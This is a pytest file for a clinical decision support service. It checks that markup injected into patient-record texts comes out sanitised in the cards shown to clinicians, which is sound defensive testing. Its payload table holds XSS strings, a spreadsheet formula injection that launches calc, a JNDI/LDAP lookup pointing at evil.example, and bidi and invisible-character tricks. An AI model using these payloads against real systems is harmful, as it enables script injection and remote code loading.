@@ -1,0 +1,230 @@
+"""Markup in every text of a record comes out harmless: plain in a summary, no link and no tag in a detail.
+
+Each sample is asked again with a piece of markup added to its texts. What is rendered is read with a
+CommonMark parser, and what GitHub's flavour makes of bare addresses is looked for by its own rules.
+"""
+
+from __future__ import annotations
+
+import copy
+import json
+import re
+from collections.abc import Iterator
+from functools import cache
+from typing import Any
+
+import pytest
+from markdown_it import MarkdownIt
+
+from cdshooks.publish.markdown import to_html
+from cdshooks.rules.wording import quoted, reference_words
+from tools import make_samples
+
+Json = dict[str, Any]
+
+POISONS = {
+    "a link": "[Click](https://evil.example)",
+    "a link with a title": "[a](//evil.example 'b')",
+    "an image": "![x](https://evil.example/p.png)",
+    "a tag": "<script>alert(1)</script>",
+    "a tag of an image": '<img src=x onerror="alert(1)">',
+    "a comment": "<!-- x -->",
+    "an automatic link": "<https://evil.example>",
+    "a bare address": "https://evil.example/x",
+    "a bare address in capitals": "HTTP://EVIL.EXAMPLE",
+    "a bare name": "www.evil.example",
+    "a bare name in capitals": "(WWW.evil.example)",
+    "a mail address": "nurse@evil.example",
+    "a mail address with its scheme": "mailto:nurse@evil.example",
+    "a chat address": "xmpp:nurse@evil.example",
+    "a transfer address": "ftp://evil.example",
+    "a definition": "[a]: evil.example (x)",
+    "a reference": "[a][b]",
+    "a footnote": "[^1] [^1]: evil",
+    "emphasis": "**not** _really_ ~~at all~~",
+    "code": "`code` ``` code",
+    "a table": "| a | b |",
+    "a heading": "# Heading",
+    "a line break and a heading": "x\n\n# STOP ALL DRUGS\n\n- [x] done",
+    "a line break and a rule": "x\n---\n===",
+    "carriage returns": "x\r\r# Heading",
+    "line separators": "x\u2028# Heading\u2029\u0085# Heading",
+    "an entity": "&lt;script&gt; &#x202e; &#60;b&#62; &Tab;",
+    "control characters": "a\x00\x07\x1b[31mb\x7f\x9b",
+    "text that runs backwards": "\u202egnp.exe\u202c \u2066a\u2069 \u200f\u200e\u061c",
+    "invisible characters": "a\u200bb\u2060c\ufeffd\u00ade\U000e0041f",
+    "backslashes": "\\[a\\]\\(b\\)\\",
+    "a formula": "$\\href{https://evil.example}{x}$ =cmd|' /C calc'!A0",
+    "a template": "{{7*7}} {% raw %} ${jndi:ldap://evil.example}",
+    "a task": "[ ] to do",
+}
+
+TEXT_MEMBERS = {"text", "display", "unit", "valueString", "value", "reference", "id", "patientInstruction"}
+INVISIBLE = re.compile(
+    "[\x00-\x09\x0b-\x1f\x7f-\x9f\u00ad\u061c\u200b-\u200f\u2028-\u202e\u2060-\u2069\ufeff\U000e0000-\U000e007f]"
+)
+BARE_LINK = re.compile(r"(?i)\w+://[^\s<]|\bwww\.[^\s<]|[\w.+-]@[\w-]|(?:mailto|xmpp|tel|javascript):\S")
+ALLOWED_TAGS = {"p", "ul", "li", "strong", "em", "br"}
+
+render = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"]).render
+
+
+@cache
+def asked() -> make_samples.Ask:
+    return make_samples.service()[1]
+
+
+def samples() -> list[str]:
+    """The samples that are answered with a card."""
+    found = make_samples.FOLDER.glob("*/*/story.json")
+    speaking = [one for one in found if json.loads(one.read_text())["indicator"]]
+    return sorted(str(one.parent.relative_to(make_samples.FOLDER)) for one in speaking)
+
+
+def sample(name: str) -> Json:
+    request: Json = json.loads((make_samples.FOLDER / name / "request.json").read_text())
+    return request
+
+
+def poisoned(request: Json, poison: str, *, front: bool) -> Json:
+    """The request with the poison in its texts; ids and references still fit together."""
+    request = copy.deepcopy(request)
+    for part in (request["prefetch"], request["context"].get("draftOrders")):
+        _poison(part, poison, front)
+    # The patient must stay the same one, or there is no answer at all.
+    request["context"]["patientId"] = request["prefetch"]["patient"]["id"]
+    return request
+
+
+def _poison(value: Any, poison: str, front: bool) -> None:
+    if isinstance(value, list):
+        for one in value:
+            _poison(one, poison, front)
+    elif isinstance(value, dict):
+        for name, inner in value.items():
+            if isinstance(inner, str) and name in TEXT_MEMBERS:
+                value[name] = (
+                    f"{poison} {inner}" if front and name not in ("id", "reference") else inner + poison
+                )
+            else:
+                _poison(inner, poison, front)
+
+
+def texts_of(answer: Json) -> Iterator[tuple[str, str]]:
+    """What a client shows: (``markdown`` or ``plain``, the text)."""
+    for card in answer["cards"]:
+        yield "markdown", card.get("detail", "")
+        yield "plain", card["summary"]
+        yield "plain", card["source"]["label"]
+        for link in card.get("links", ()):
+            yield "address", link["url"]
+            yield "plain", link["label"]
+        for suggestion in card.get("suggestions", ()):
+            yield "plain", suggestion["label"]
+            for action in suggestion["actions"]:
+                yield "plain", action["description"]
+
+
+def harm_in(kind: str, text: str) -> Iterator[str]:
+    """What in a text could do harm where it is shown."""
+    if kind == "address":
+        if not text.startswith(make_samples.ADDRESS):
+            yield f"leads to {text}"
+        return
+    if found := INVISIBLE.search(text):
+        yield f"holds {found[0]!r}"
+    if kind == "plain" and "\n" in text:
+        yield "holds a line break"
+    html = render(text) if kind == "markdown" else text
+    if tags := set(re.findall(r"<\s*[/!?]?\s*([a-zA-Z]\w*|!--)", html)) - (
+        ALLOWED_TAGS if kind == "markdown" else set()
+    ):
+        yield f"holds the tags {sorted(tags)}"
+    if found := BARE_LINK.search(re.sub(r"<[^>]+>", " ", html)):
+        yield f"holds the link {found[0]!r}"
+    if kind == "markdown":
+        yield from harm_in_the_pages_of_the_demo(text)
+
+
+def harm_in_the_pages_of_the_demo(text: str) -> Iterator[str]:
+    if tags := set(re.findall(r"</?([a-z]+)", to_html(text))) - ALLOWED_TAGS:
+        yield f"makes the tags {sorted(tags)} on our page"
+
+
+def shape(markdown: str) -> list[str]:
+    """The blocks of a rendered text, without what stands in them."""
+    return re.findall(r"<(/?(?:ul|ol|h\d|hr|blockquote|pre|table|input|p))", render(markdown))
+
+
+def harm_of(name: str, poison: str, *, front: bool) -> list[str]:
+    answer = asked()(sample(name)["hook"], poisoned(sample(name), poison, front=front))
+    return [f"{harm} in {text!r}" for kind, text in texts_of(answer) for harm in harm_in(kind, text)]
+
+
+@pytest.mark.parametrize("front", [True, False], ids=["before", "behind"])
+@pytest.mark.parametrize("poison", POISONS)
+def test_markup_in_the_texts_of_a_record_does_no_harm(poison: str, front: bool) -> None:
+    for name in samples()[:: max(1, len(samples()) // 6)]:
+        assert harm_of(name, POISONS[poison], front=front) == []
+
+
+@pytest.mark.long
+@pytest.mark.parametrize("name", samples())
+def test_markup_in_the_texts_of_any_sample_does_no_harm(name: str) -> None:
+    for poison in POISONS.values():
+        assert harm_of(name, poison, front=True) == []
+        assert harm_of(name, poison, front=False) == []
+
+
+def test_the_poisoned_samples_still_speak() -> None:
+    """Else nothing would have been looked at."""
+    request = poisoned(sample("pjp-start/prednisone-drafted-sulfonamide-allergy"), "**x**", front=False)
+    cards = asked()("order-select", request)["cards"]
+    assert [card["source"]["topic"]["code"] for card in cards] == ["pjpStart"]
+
+
+@pytest.mark.parametrize(
+    ("text", "shown"),
+    [
+        ("Leukocytes [#/volume] in Blood", "Leukocytes [#/volume] in Blood"),
+        ("10*9/L", "10^9/L"),
+        ("< 0.5 mg/L", "< 0.5 mg/L"),
+        ("<0.5", "<0.5"),
+        (">=1:640", ">=1:640"),
+        ("<=5", "<=5"),
+        ("-3.2", "-3.2"),
+        ("+++", "+++"),
+        ("A & B", "A & B"),
+        ("AT&T; x", "AT& T; x"),
+        ("prednisone 20 MG Oral Tablet", "prednisone 20 MG Oral Tablet"),
+        ("Łódź 40 µg/d", "Łódź 40 µg/d"),
+        ("http://x.example", "http: //x.example"),
+        ("a@b.example", "a @ b.example"),
+        ("5 mg @ 08:00", "5 mg @ 08:00"),
+        ("<b>5</b>", "b 5 /b"),
+        ("x" * 81, "x" * 77 + "..."),
+        ("x" * 80, "x" * 80),
+    ],
+)
+def test_a_quotation_keeps_its_meaning(text: str, shown: str) -> None:
+    assert quoted(text) == shown
+
+
+@pytest.mark.parametrize("reference", ["MedicationRequest/a-1.B", "Observation/" + "x" * 190])
+def test_a_plain_reference_is_said_as_it_is(reference: str) -> None:
+    assert reference_words(reference) == reference
+
+
+def test_another_reference_is_quoted() -> None:
+    assert reference_words("Condition/](http://x)") == "Condition/] (http: //x)"
+
+
+@pytest.mark.parametrize(
+    "start", ["# x", "> x", "- x", "+ x", "1. x", "12) x", "[ ] x", "[x] x", "--- x", "=== x"]
+)
+def test_no_line_of_a_card_begins_a_block_of_its_own(start: str) -> None:
+    request = sample("pjp-start/prednisone-drafted-sulfonamide-allergy")
+    plain = asked()("order-select", request)["cards"][0]["detail"]
+    request["context"]["draftOrders"]["entry"][0]["resource"]["medicationCodeableConcept"]["text"] = start
+    marked = asked()("order-select", request)["cards"][0]["detail"]
+    assert shape(marked) == shape(plain)
